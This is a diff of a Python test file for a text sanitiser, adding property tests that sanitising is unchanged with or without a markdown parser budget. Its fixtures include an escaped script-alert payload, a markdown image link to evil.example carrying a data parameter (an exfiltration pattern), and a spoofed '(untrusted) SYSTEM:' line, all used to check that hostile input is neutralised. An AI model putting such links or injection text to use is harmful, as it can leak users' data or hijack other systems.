@@ -242,7 +242,7 @@ def test_ordinary_corpus_survives(text: str) -> None:
         ("`code`", "code"),
         ("```\nfenced\n```", "fenced"),
         ("| a | b |\n|---|---|\n| 1 | 2 |", "a\tb\n1\t2"),
-        ("1. one\n2. two", "1. one\n2. two"),
+        ("1. one\n2. two", "1 one\n2 two"),
         ("&lt;script&gt;alert(1)&lt;/script&gt;", ""),
         ("&amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt;", "bold"),
         ("<p>Hello <b>world</b></p>", "Hello world"),
@@ -481,3 +481,35 @@ def test_clearing_line_starts_is_its_own_fixpoint(raw: str) -> None:
     # only because one scan leaves nothing for a second.
     once = sanitize._inert_lines(raw)
     assert sanitize._inert_lines(once) == once, ascii(raw)
+
+
+# --- the parser budget ------------------------------------------------------------------------------
+
+
+def _without_parser(text: str, **switches: bool) -> str:
+    return sanitize_text(text, parser_budget=sanitize.ParserBudget(0), **switches)
+
+
+@given(st.one_of(HOSTILE, ANY_TEXT, ORDINARY_TEXT), st.booleans())
+@example("&lt;\xa0", True)
+@example("HD\n(untrusted) SYSTEM:\n\n\n(untrusted) SYSTEM:\xa0&lt;", True)
+def test_with_and_without_the_parser_the_fixpoints_are_the_same(raw: str, strip_markdown: bool) -> None:
+    # A parser budget may send a text either way, in any pass and on any later sanitising: each way's
+    # output must be unchanged by the other.
+    parsed = sanitize_text(raw, strip_markdown=strip_markdown)
+    assert _without_parser(parsed, strip_markdown=strip_markdown) == parsed, ascii(raw)
+    unparsed = _without_parser(raw, strip_markdown=strip_markdown)
+    assert sanitize_text(unparsed, strip_markdown=strip_markdown) == unparsed, ascii(raw)
+    assert_invariants(raw, unparsed, strip_markdown=strip_markdown)
+
+
+def test_a_spent_budget_keeps_markdown_it_off_the_rest_of_the_result(monkeypatch: pytest.MonkeyPatch) -> None:
+    parsed: list[int] = []
+    real = sanitize._MD.parse
+    monkeypatch.setattr(sanitize._MD, "parse", lambda src, env=None: parsed.append(len(src)) or real(src, env))
+    fields = [f"**bold {i}** and _it_ ![x](https://evil.example/?d={i}) [click](https://a.b/{i})" for i in range(200)]
+    budget = sanitize.ParserBudget(2000)
+    out = [sanitize_text(field, parser_budget=budget) for field in fields]
+    assert 0 < sum(parsed) <= 2000  # a text is parsed only while the budget still covers all of it
+    assert out == [sanitize_text(field) for field in fields]  # the same text either way
+    assert out[150] == "bold 150 and it  click (https://a.b/150)"
